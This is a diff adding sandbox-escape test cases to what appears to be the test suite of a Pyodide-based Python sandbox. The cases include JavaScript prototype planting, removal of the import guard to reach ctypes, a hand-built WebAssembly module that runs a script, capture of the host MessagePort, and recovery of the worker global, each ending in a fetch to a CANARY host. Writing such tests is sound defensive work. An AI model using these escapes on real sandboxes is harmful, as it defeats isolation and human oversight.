@@ -433,4 +433,215 @@ g = await glob()
 g.postMessage({"type": "dom", "id": "l0-canary", "html": "pwned"})
 await asyncio.sleep(0.2)
 escaped()`),
+  // --- issue 16: the chain's steps, each alone ---------------------------------------------------
+  a('chain-accessor-free-variable', 'accessor on Object.prototype for a missing global, run by an Emscripten free-variable read (ctypes)', true, `
+import sys, js
+from pyodide.ffi import create_proxy, to_js
+reached = []
+def _getter(this, *args):
+    if this is not None:
+        reached.append(this)
+    return js.Object.new()
+getter = create_proxy(_getter, capture_this=True)
+planted = []
+for name in ("navigator", "document"):
+    try:
+        js.Object.defineProperty(js.Object.prototype, name, to_js({"get": getter, "configurable": True}, dict_converter=js.Object.fromEntries))
+        planted.append(name)
+    except Exception as e:
+        print("plant refused:", name, e)
+sys.meta_path[:] = [f for f in sys.meta_path if "Guard" not in type(f).__name__]
+try:
+    import ctypes
+    lib = ctypes.PyDLL(None)
+    lib.emscripten_vibrate(1)          # reads navigator
+    lib.emscripten_exit_pointerlock()  # reads document
+except BaseException as e:
+    print("ctypes:", type(e).__name__, e)
+for name in planted:
+    delattr(js.Object.prototype, name)
+for g in reached:
+    f = getattr(g, "fetch", None)
+    if f is not None:
+        f(CANARY + "/accessor-global")
+        escaped("global reached by " + ",".join(planted)); break`),
+  a('prototype-planting', 'define properties on every shared prototype Python reaches (Object, Function, Array, Promise, iterators, Error, Date, WeakRef...)', true, `
+import js
+from pyodide.ffi import to_js
+O = js.Object
+P = O.getPrototypeOf
+protos = {"Object": O.prototype, "Function": P(O), "Array": js.Array.prototype, "Date": js.Date.prototype, "WeakRef": js.WeakRef.prototype}
+try:
+    protos["Promise"] = P(js.Array.fromAsync(js.Array.new()))
+except Exception:
+    pass
+try:
+    it = js.Array.new().values()
+    protos["ArrayIterator"] = P(it); protos["Iterator"] = P(P(it))
+except Exception:
+    pass
+try:
+    O.defineProperty(None, "x", None)
+except Exception as e:
+    err = getattr(e, "js_error", None)
+    if err is not None:
+        protos["TypeError"] = P(err); protos["Error"] = P(P(err))
+for name in ("FinalizationRegistry", "MessagePort", "EventTarget", "WeakMap", "Map"):
+    c = getattr(js, name, None)
+    if c is not None:
+        protos[name] = c.prototype
+planted = []
+has = O.prototype.hasOwnProperty
+for name, proto in protos.items():
+    try:  # a new property
+        O.defineProperty(proto, "l0Pwned", to_js({"value": 1, "configurable": True}, dict_converter=O.fromEntries))
+        if has.call(proto, "l0Pwned"):
+            planted.append(name); delattr(proto, "l0Pwned")
+    except Exception:
+        pass
+    try:  # an existing method replaced (or shadowed on the prototype)
+        own = has.call(proto, "toString")
+        orig = proto.toString
+        setattr(proto, "toString", O.prototype.valueOf)
+        if proto.toString != orig:
+            planted.append(name + ".toString")
+            setattr(proto, "toString", orig) if own else delattr(proto, "toString")
+    except Exception:
+        pass
+if planted:
+    escaped(",".join(planted))`),
+  a('ctypes-builtin-routes', 'import _ctypes / _testcapi after removing the guard: import, importlib, _imp.create_builtin, BuiltinImporter, _bootstrap, gc', true, `
+import sys, gc, types, importlib, importlib.machinery, _imp
+sys.meta_path[:] = [f for f in sys.meta_path if "Guard" not in type(f).__name__]
+Spec = importlib.machinery.ModuleSpec
+routes = [
+    ("import", lambda: __import__("_ctypes")),
+    ("importlib", lambda: importlib.import_module("_ctypes")),
+    ("create_builtin", lambda: _imp.create_builtin(Spec("_ctypes", None))),
+    ("BuiltinImporter", lambda: importlib.machinery.BuiltinImporter.create_module(Spec("_ctypes", importlib.machinery.BuiltinImporter))),
+    ("_bootstrap", lambda: importlib._bootstrap._builtin_from_name("_ctypes")),
+    ("gc", lambda: next((o for o in gc.get_objects() if isinstance(o, types.ModuleType) and o.__name__ == "_ctypes"), None)),
+    ("testcapi", lambda: __import__("_testcapi")),
+    ("testinternalcapi", lambda: __import__("_testinternalcapi")),
+]
+got = []
+for name, route in routes:
+    for k in ("_ctypes", "ctypes", "_testcapi", "_testinternalcapi"):
+        sys.modules.pop(k, None)
+    try:
+        m = route()
+    except BaseException as e:
+        continue
+    if isinstance(m, types.ModuleType) and (hasattr(m, "CFuncPtr") or m.__name__.startswith("_test")):
+        got.append(name)
+if got:
+    escaped(",".join(got))`),
+  a('side-module-run-script', 'a hand-written Emscripten side module imported from the file system calls emscripten_run_script (no ctypes)', true, `
+import sys, os
+def leb(n):
+    out = bytearray()
+    while True:
+        b = n & 0x7f; n >>= 7
+        if n: out.append(b | 0x80)
+        else:
+            out.append(b); return bytes(out)
+def vec(items): return leb(len(items)) + b"".join(items)
+def name(s): b = s.encode(); return leb(len(b)) + b
+def section(i, content): return bytes([i]) + leb(len(content)) + content
+js_code = f"fetch('{CANARY}/side-module')".encode() + b"\\0"
+mem_info = leb(len(js_code)) + leb(0) + leb(0) + leb(0)
+body = b"\\x00\\x23\\x00\\x10\\x00\\x41\\x00\\x0b"  # no locals; run_script(__memory_base); return 0
+wasm = b"\\0asm\\x01\\0\\0\\0" + b"".join([
+    section(0, name("dylink.0") + b"\\x01" + leb(len(mem_info)) + mem_info),
+    section(1, vec([b"\\x60\\x01\\x7f\\x00", b"\\x60\\x00\\x01\\x7f"])),
+    section(2, vec([name("env") + name("memory") + b"\\x02\\x00\\x00",
+                    name("env") + name("__memory_base") + b"\\x03\\x7f\\x00",
+                    name("env") + name("emscripten_run_script") + b"\\x00\\x00"])),
+    section(3, vec([b"\\x01"])),
+    section(7, vec([name("PyInit_l0side") + b"\\x00\\x01"])),
+    section(10, vec([leb(len(body)) + body])),
+    section(11, vec([b"\\x00\\x23\\x00\\x0b" + leb(len(js_code)) + js_code])),
+])
+os.makedirs("/tmp/l0side", exist_ok=True)
+with open("/tmp/l0side/l0side.so", "wb") as f:
+    f.write(wasm)
+sys.path.insert(0, "/tmp/l0side")
+try:
+    import l0side
+except SystemError:
+    escaped("side module ran")  # PyInit returned NULL after its call: the module was instantiated
+except ImportError as e:
+    print("refused:", e)
+finally:
+    sys.path.remove("/tmp/l0side")`),
+  a('finalization-registry-port', 'FinalizationRegistry.prototype.register = Array.prototype.push, setter on Object.prototype[1], one tool call: capture the host MessagePort comlink registers', false, `
+import sys, js
+from pyodide.ffi import to_js
+O = js.Object
+def jsobj(d): return to_js(d, dict_converter=O.fromEntries)
+FR = getattr(js, "FinalizationRegistry", None)
+if FR is None:
+    try:
+        FR = (await glob()).FinalizationRegistry
+    except Exception as e:
+        print("no global:", e)
+if FR is not None:
+    sink = jsobj({str(i): 0 for i in range(64)}); sink.length = 0
+    original = FR.prototype.register
+    refused = None
+    try:
+        FR.prototype.register = js.Array.prototype.push
+        O.defineProperty(O.prototype, "1", jsobj({"set": js.Array.prototype.push.bind(sink), "configurable": True}))
+        h = sys.modules.get("_l0_host") or __import__("_l0_host")
+        h.call_tool_async("l0_probe", "{}")
+    except Exception as e:
+        refused = f"{type(e).__name__}: {e}"  # printed once the setter is gone (it swallows writes)
+    finally:
+        try:
+            delattr(O.prototype, "1")
+        except Exception:
+            pass
+        try:
+            FR.prototype.register = original
+        except Exception:
+            pass
+    if refused:
+        print("refused:", refused)
+    ports = [getattr(sink, str(i)) for i in range(int(sink.length)) if O.prototype.toString.call(getattr(sink, str(i))) == "[object MessagePort]"]
+    if ports:
+        ports[0].postMessage(jsobj({"id": "l0-probe", "type": "SET", "path": ["__proto__", "l0PortPwned"], "value": {"type": "RAW", "value": 1}}))
+        escaped("host port captured")`),
+  a('global-via-callback-this', 'the worker global as `this` of any callback Python can hand to JS (promises, array methods, getters, call/apply with null)', true, `
+import js
+from pyodide.ffi import create_proxy, to_js
+O = js.Object
+seen = []
+def cb(this, *args):
+    seen.append(this)
+    return 0
+f = create_proxy(cb, capture_this=True)
+tries = [
+    lambda: js.Array.new(1).fill(0).forEach(f),
+    lambda: js.Array.new(1).fill(0).map(f),
+    lambda: O.getPrototypeOf(O).call.call(f, None),                    # Function.prototype.call
+    lambda: O.getPrototypeOf(O).apply.call(f, None, js.Array.new()),
+    lambda: O.defineProperty(O.new(), "x", to_js({"get": f}, dict_converter=O.fromEntries)).x,
+    lambda: js.setTimeout(f, 0),                                         # the HTML spec passes the global
+]
+for t in tries:
+    try:
+        t()
+    except Exception:
+        pass
+p = None
+try:
+    p = js.Array.fromAsync(js.Array.new())
+    p.then(f)
+except Exception:
+    pass
+await asyncio.sleep(0.1)
+for g in seen:
+    if g is not None and getattr(g, "fetch", None) is not None:
+        await wait(g.fetch(CANARY + "/callback-this"))
+        escaped("global as this"); break`),
 ];
